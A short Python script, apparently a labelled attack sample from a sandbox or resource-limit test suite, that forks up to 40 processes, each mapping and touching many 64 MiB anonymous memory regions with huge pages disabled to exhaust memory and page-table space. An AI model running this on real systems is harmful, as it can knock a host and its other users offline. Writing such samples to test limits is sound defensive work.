# attack: memory for the places of pages that are none, in many processes
# harmless: no
import mmap
import os
import time

for _ in range(40):
    try:
        if os.fork() == 0:
            break
    except OSError as error:
        print(error)
held = []
try:
    while len(held) < 2000:
        held.append(mmap.mmap(-1, 2**26, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        held[-1].madvise(mmap.MADV_NOHUGEPAGE)
        seen = sum(held[-1][:: 2**21])
except (OSError, ValueError) as error:
    print(len(held), error, flush=True)
time.sleep(60)
